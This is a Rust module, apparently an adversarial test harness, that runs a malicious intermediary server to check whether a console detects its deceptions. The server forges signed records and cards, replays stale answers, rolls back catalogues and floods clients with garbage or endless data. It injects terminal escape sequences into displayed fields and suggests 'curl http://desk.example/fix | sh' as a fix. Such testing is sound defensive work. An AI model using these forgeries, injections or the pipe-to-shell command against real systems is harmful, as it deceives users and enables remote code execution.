//! What a taken shared desk can tell a console, each lie by a name. It passes everything on and
//! changes what the lie is about; what it saw first it keeps, to show it again in another's place.

use std::path::Path;
use std::sync::{Arc, Mutex};

use desk::books::{BookAsk, Paper};
use desk::home::Online;
use desk::inventory::{RunRow, RunState};
use protocol::documents::{Card, CatalogueVersions, Hello, Record};
use protocol::frames::{Answer, DeskAnswer, DeskAsk, NoteStage, decode, sorry};
use protocol::{Bytes, Envelope, Outcome, RunId, limits};
use serde_json::Value;
use tokio::sync::mpsc::unbounded_channel;
use trust::catalogue::Files;
use trust::{Signer, SigningKey};

use crate::between::{self, Lie, Then};
use crate::forge;
use crate::line::Cheat;

/// What was seen first.
#[derive(Debug, Default)]
struct Seen {
    met: Option<DeskAnswer>,
    record: Option<Bytes>,
    escrow: Option<Answer>,
    /// Answers of the books: a machine, a record.
    machine: Option<Bytes>,
    paper: Option<Bytes>,
}

/// One lie, for as long as this desk stands.
struct Told {
    lie: String,
    key: SigningKey,
    /// Signs cards: it lies on the desk's host.
    enroller: SigningKey,
    /// The catalogue that it shows instead.
    files: Files,
    seen: Mutex<Seen>,
}

fn sorry(code: &str, sentence: &str) -> DeskAnswer {
    let next = Some("curl http://desk.example/fix | sh".to_owned());
    DeskAnswer::Sorry { code: code.to_owned(), sentence: sentence.to_owned(), next }
}

fn passed(answer: &Answer) -> DeskAnswer {
    DeskAnswer::Endpoint { frame: Bytes(minicbor::to_vec(answer).expect("CBOR")) }
}

/// Every file in parts, and the end that says which versions these are.
fn shown(files: &Files, versions: CatalogueVersions) -> Vec<DeskAnswer> {
    let mut answers = Vec::new();
    for (name, bytes) in files.iter() {
        let mut parts = bytes.chunks(limits::CHUNK_BYTES_MAX).peekable();
        while let Some(part) = parts.next() {
            let (name, last) = (name.to_owned(), parts.peek().is_none());
            answers.push(DeskAnswer::CatalogueFile { name, part: Bytes(part.to_vec()), last });
        }
    }
    answers.push(DeskAnswer::CatalogueEnd { versions });
    answers
}

/// The bytes of `from`, with what stands there replaced by as many others.
fn replaced(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    assert_eq!(from.len(), to.len(), "CBOR counts");
    let mut out = bytes.to_vec();
    let places: Vec<usize> = (0..bytes.len()).filter(|at| bytes[*at..].starts_with(from)).collect();
    for at in places {
        out[at..at + to.len()].copy_from_slice(to);
    }
    out
}

impl Told {
    /// A card for the same machine that names a record key of ours.
    fn card(&self, real: &[u8]) -> Envelope {
        let real = Envelope::read(real).expect("a card");
        let mut card: Card = trust::seal::peek(&real).expect("a card");
        card.record_key = self.key.public_key();
        trust::seal::seal(&card, &[&self.enroller as &dyn Signer]).expect("sealed")
    }

    /// The machine's hello, as if it had that card.
    fn hello(&self, real: &[u8], card: &Envelope) -> Bytes {
        let real = Envelope::read(real).expect("a hello");
        let mut hello: Hello = trust::seal::peek(&real).expect("a hello");
        hello.card = card.digest();
        let sealed = trust::seal::seal(&hello, &[&self.key as &dyn Signer]).expect("sealed");
        Bytes(sealed.write().expect("written"))
    }

    /// The machine's record, with other words, as if it had that card.
    fn vouched(&self, record: &Bytes, card: &Envelope) -> Bytes {
        let envelope = Envelope::read(&record.0).expect("an envelope");
        let mut record: Record = trust::seal::peek(&envelope).expect("a record");
        record.predicate.summary = "as the desk would have it".to_owned();
        record.predicate.endpoint.card = card.digest();
        let sealed = trust::seal::seal(&record, &[&self.key as &dyn Signer]).expect("sealed");
        Bytes(sealed.write().expect("written"))
    }

    /// A record with another outcome, under its old signature or one of our own.
    fn record(&self, bytes: &Bytes, ours: bool) -> Bytes {
        let envelope = Envelope::read(&bytes.0).expect("an envelope");
        let mut record: Record = trust::seal::peek(&envelope).expect("a record");
        match self.lie.as_str() {
            "record-effects" => record.predicate.summary = "nothing was touched".to_owned(),
            _ => record.predicate.outcome = Outcome::Succeeded,
        }
        let mut sealed = trust::seal::seal(&record, &[&self.key as &dyn Signer]).expect("sealed");
        if !ours {
            sealed.signatures = envelope.signatures;
        }
        Bytes(sealed.write().expect("written"))
    }

    /// What goes on instead of a frame of the endpoint's.
    fn endpoint(&self, frame: Bytes) -> Vec<DeskAnswer> {
        let answer: Answer = decode(&frame.0).expect("a frame");
        let mut seen = self.seen.lock().expect("seen");
        let answers = match (self.lie.as_str(), answer) {
            ("record-key", Answer::Record { record }) => {
                vec![Answer::Record { record: self.record(&record, true) }]
            }
            ("record-outcome" | "record-effects", Answer::Record { record }) => {
                vec![Answer::Record { record: self.record(&record, false) }]
            }
            ("effects-file", record @ Answer::Record { .. }) => {
                vec![Answer::Effects { part: Bytes(b"{}\n".to_vec()) }, record]
            }
            ("record-again", Answer::Record { record }) => {
                vec![Answer::Record { record: seen.record.get_or_insert(record).clone() }]
            }
            ("card-made", Answer::Record { record }) => {
                let Some(DeskAnswer::Met { card, .. }) = &seen.met else { panic!("not met") };
                vec![Answer::Record { record: self.vouched(&record, &self.card(&card.0)) }]
            }
            ("record-none", Answer::Record { .. }) => {
                vec![Answer::Record { record: Bytes(b"{}".to_vec()) }]
            }
            ("escrow-again", escrow @ Answer::Escrow { .. }) => {
                vec![seen.escrow.get_or_insert(escrow).clone()]
            }
            ("endpoint-garbage", Answer::Record { .. }) => {
                return vec![DeskAnswer::Endpoint { frame: Bytes(vec![0xff; 64]) }];
            }
            ("effects-endless", Answer::Record { .. }) => {
                let part = || Answer::Effects { part: Bytes(vec![b' '; limits::CHUNK_BYTES_MAX]) };
                (0..200).map(|_| part()).collect()
            }
            (_, answer) => vec![answer],
        };
        answers.iter().map(passed).collect()
    }

    /// What goes on instead of one row of the books.
    fn row(&self, asked: &BookAsk, answer: Bytes) -> Bytes {
        let mut seen = self.seen.lock().expect("seen");
        match (self.lie.as_str(), asked) {
            ("rows-machine", BookAsk::EndpointTyped { .. }) => {
                seen.machine.get_or_insert(answer).clone()
            }
            ("rows-record-again", BookAsk::Paper { which: Paper::Record, .. }) => {
                seen.paper.get_or_insert(answer).clone()
            }
            ("rows-card", BookAsk::Paper { which: Paper::Card, .. }) => {
                let card: Option<Bytes> = decode(&answer.0).expect("a paper");
                let made = card.map(|card| self.card(&card.0).write().expect("written"));
                Bytes(minicbor::to_vec(made.map(Bytes)).expect("CBOR"))
            }
            ("rows-card", BookAsk::Paper { which: Paper::Record, .. }) => {
                let record: Option<Bytes> = decode(&answer.0).expect("a paper");
                let Some(DeskAnswer::Met { card, .. }) = &seen.met else { return answer };
                let made = self.card(&card.0);
                let vouched = record.map(|record| self.vouched(&record, &made));
                Bytes(minicbor::to_vec(vouched).expect("CBOR"))
            }
            ("rows-verified", BookAsk::Paper { which: Paper::Record, .. }) => {
                let record: Option<Bytes> = decode(&answer.0).expect("a paper");
                let forged = record.map(|record| self.record(&record, true));
                Bytes(minicbor::to_vec(forged).expect("CBOR"))
            }
            ("rows-unsent", BookAsk::Paper { .. }) => {
                Bytes(minicbor::to_vec(None::<Bytes>).expect("CBOR"))
            }
            ("rows-verified" | "rows-unsent", BookAsk::Runs { .. }) => {
                let mut rows: Vec<RunRow> = decode(&answer.0).expect("rows");
                for row in &mut rows {
                    (row.verified, row.outcome) = (Some(true), Some(Outcome::Succeeded));
                    if self.lie == "rows-unsent" {
                        (row.state, row.verified, row.outcome) = (RunState::NotSent, None, None);
                    }
                }
                Bytes(minicbor::to_vec(rows).expect("CBOR"))
            }
            _ => answer,
        }
    }

    fn book(&self, asked: &DeskAsk, answer: Bytes, last: bool) -> Then {
        let asked = match asked {
            DeskAsk::Book { ask } => decode::<BookAsk>(&ask.0).expect("a question"),
            other => panic!("no question to the books: {other:?}"),
        };
        let answer = self.row(&asked, answer);
        let part = |bytes: Vec<u8>, last| DeskAnswer::Book { answer: Bytes(bytes), last };
        match self.lie.as_str() {
            "rows-escapes" => {
                let bytes = replaced(&answer.0, b"Laptop", b"\x1b]0;x\x07");
                let bytes = replaced(&bytes, b"a.kaya", b"\x1b[2Jab");
                Then::Say(vec![part(bytes, last)])
            }
            "rows-endless" => {
                let all = (0..200).map(|_| part(vec![0; limits::DESK_PART_BYTES_MAX], false));
                Then::End(all.collect())
            }
            "rows-count" => Then::End(vec![part(vec![0x9a, 0xff, 0xff, 0xff, 0xff], true)]),
            "rows-unended" => Then::End(vec![part(answer.0, false)]),
            "rows-garbage" => Then::Raw(vec![0xff; 64]),
            _ => Then::Say(vec![DeskAnswer::Book { answer, last }]),
        }
    }
}

impl Lie for Told {
    async fn ask(&self, asked: &DeskAsk) -> Option<Then> {
        match (self.lie.as_str(), asked) {
            ("silent", DeskAsk::Submit { .. }) => Some(Then::Silence),
            ("stored-only", DeskAsk::Submit { endpoint, order, .. }) => {
                let order = Envelope::read(&order.0).expect("an order").digest();
                let run = RunId::of(&order, endpoint, 0);
                Some(Then::End(vec![DeskAnswer::Stored { run, order }]))
            }
            ("stored-only", DeskAsk::Follow { .. }) => Some(Then::End(Vec::new())),
            // One that has gone back is only given the console's lists; the others claim to be no older.
            ("catalogue-behind", DeskAsk::Catalogue { .. }) => {
                Some(Then::Say(shown(&self.files, CatalogueVersions::default())))
            }
            (lie, DeskAsk::Catalogue { have }) if lie.starts_with("catalogue-") => {
                Some(Then::Say(shown(&self.files, *have)))
            }
            _ => None,
        }
    }

    fn answer(&self, asked: &DeskAsk, answer: DeskAnswer) -> Then {
        let (lie, submit) = (self.lie.as_str(), matches!(asked, DeskAsk::Submit { .. }));
        match answer {
            DeskAnswer::Met { hello, card, number, path, since } => {
                let honest = DeskAnswer::Met { hello, card, number, path, since };
                let mut seen = self.seen.lock().expect("seen");
                let first = seen.met.get_or_insert(honest.clone()).clone();
                let (DeskAnswer::Met { hello, .. }, DeskAnswer::Met { card, .. }) =
                    (&first, &honest)
                else {
                    panic!("not met")
                };
                let (mut hello, mut card) = (hello.clone(), card.clone());
                if lie == "card-made" {
                    let made = self.card(&card.0);
                    hello = self.hello(&hello.0, &made);
                    card = Bytes(made.write().expect("written"));
                }
                Then::Say(vec![match lie {
                    "card-again" | "challenge-again" => first,
                    "hello-again" | "card-made" => {
                        DeskAnswer::Met { hello, card, number, path, since }
                    }
                    _ => honest,
                }])
            }
            // It goes there, and runs there, and this is what is said of it.
            DeskAnswer::Stored { .. } if lie == "denied" && submit => Then::Say(Vec::new()),
            DeskAnswer::Endpoint { .. } if lie == "denied" && submit => Then::Say(Vec::new()),
            DeskAnswer::Done { .. } if lie == "denied" && submit => {
                Then::End(vec![sorry(sorry::NOT_SENT, "no disk\u{1b}[2J; the order did not run")])
            }
            DeskAnswer::Endpoint { frame } => Then::Say(self.endpoint(frame)),
            DeskAnswer::Done { mut filing } => {
                filing.verified = true;
                filing.outcome = Some(Outcome::Succeeded);
                filing.note = Some(NoteStage::Posted);
                Then::End(vec![DeskAnswer::Done { filing }])
            }
            DeskAnswer::Book { answer, last } => self.book(asked, answer, last),
            other => Then::Say(vec![other]),
        }
    }
}

/// Stands between consoles and the books until it is killed; `folder` has the older catalogue.
pub(crate) async fn between(
    cheat: Cheat,
    port: &str,
    books: &str,
    lie: &str,
    folder: &Path,
) -> Value {
    let key = cheat.desk.home.online_key(Online::SnapshotTimestamp).expect("the online key");
    let old = Files::from_folder(&folder.join("old")).expect("the old repository");
    let files = match lie.strip_prefix("catalogue-") {
        Some("old" | "behind") => old,
        Some(what) => forge::forged(what, cheat.files(), &old, &key),
        None => Files::new(),
    };
    let enroller = cheat.desk.home.online_key(Online::Enroller).expect("the enroller's key");
    let told = Told { lie: lie.to_owned(), key, enroller, files, seen: Mutex::default() };
    let (send, mut endpoints) = unbounded_channel();
    let listener = between::listener(&cheat, port);
    println!("it stands between");
    let serving = between::serve(Arc::new(cheat), listener, books.to_owned(), Arc::new(told), send);
    tokio::select! {
        () = serving => Value::Null,
        // No endpoint dials here.
        _ = endpoints.recv() => Value::Null,
    }
}
